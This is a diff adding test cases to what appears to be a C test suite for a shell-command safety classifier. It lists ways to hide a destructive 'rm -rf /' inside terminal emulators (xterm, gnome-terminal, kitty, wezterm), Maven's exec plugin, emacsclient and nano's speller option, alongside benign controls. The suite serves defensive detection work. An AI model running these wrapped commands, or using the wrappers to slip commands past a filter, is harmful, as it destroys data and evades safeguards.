@@ -1687,6 +1687,9 @@ subcommands(void)
 	/* What the subcommand runs, when it runs nothing a rule is for. */
 	shell("docker run --rm alpine ls -l", L, "ls");
 	shell("dsh -a ls -l", L, "ls");
+	shell("xterm -title rm -e ls -l", L, "ls");
+	shell("gnome-terminal -- ls -l", L, "ls");
+	shell("mvn exec:exec -Dexec.executable=ls -Dexec.args=-l", L, "ls");
 	shell("salt '*' cmd.run cmd='ls -l' cwd=/tmp", L, "ls");
 	shell("kubectl exec pod -- ls /", L, "ls");
 	shell("git log --oneline", L, "git-read");
@@ -1882,6 +1885,28 @@ other_languages(void)
 		"salt-call cmd.run cmd='rm -rf /' runas=root",
 		"dsh -a -c -- rm -rf /",
 		"dsh -g web -r ssh -o -q 'rm -rf /'",
+		/* terminal emulators run a command in their window */
+		"xterm -title t -geometry 80x24 -e rm -rf /",
+		"xterm -hold -e 'rm -rf /'",
+		"urxvt -e sh -c 'rm -rf /'",
+		"konsole --workdir /tmp -e rm -rf /",
+		"alacritty --command rm -rf /",
+		"gnome-terminal --window -- rm -rf /",
+		"gnome-terminal -x rm -rf /",
+		"gnome-terminal --command='rm -rf /'",
+		"xfce4-terminal -e 'rm -rf /'",
+		"tilix -e 'rm -rf /'",
+		"kitty --title x -d /tmp rm -rf /",
+		"foot -T x rm -rf /",
+		"st -e rm -rf /",
+		"wezterm start --cwd /tmp -- rm -rf /",
+		"wezterm cli spawn -- rm -rf /",
+		/* mvn's exec plugin, emacsclient -a, nano's speller */
+		"mvn exec:exec -Dexec.executable=rm -Dexec.args='-rf /'",
+		"./mvnw -q exec:exec -D exec.executable=sh "
+		    "-D exec.args=\"-c 'rm -rf /'\"",
+		"emacsclient -a 'rm -rf /' f.txt",
+		"nano --speller='rm -rf /' f.txt",
 		/* user-mode emulators, toolchain and environment runners */
 		"qemu-aarch64 -L /usr/aarch64-linux-gnu /bin/rm -rf /",
 		"qemu-x86_64-static -cpu max -strace /bin/rm -rf /",
@@ -2438,6 +2463,9 @@ git_keys_and_packages(void)
 		"node --import 'data:text/javascript;base64,eA==' x.js",
 		"node --experimental-loader https://x.example/l.mjs y.js",
 		"node --import=data:text/javascript,%65val() y.js",
+		"emacsclient -e '(shell-command \"x\")'",
+		"emacsclient --eval x",
+		"mvn exec:exec -Dexec.executable=\"$X\"",
 		"TAR_OPTIONS='--to-command=x' tar xf x.tar",
 		"GIT_TEMPLATE_DIR=/tmp/t git init",
 		"VIMINIT='call system(\"x\")' vim f",
@@ -2489,6 +2517,11 @@ git_keys_and_packages(void)
 		"node --import=tsx -r ./x.js y.js",
 		"svn --config-option servers:global:http-timeout=60 up",
 		"ruby -r json -rset x.rb",
+		"xterm",
+		"gnome-terminal",
+		"emacsclient -n f.txt",
+		"nano f.txt",
+		"mvn clean install -DskipTests",
 		"VIMINIT='set nocompatible | syntax on' vim f",
 		"git init",
 		"env 'a.b=1' ls",
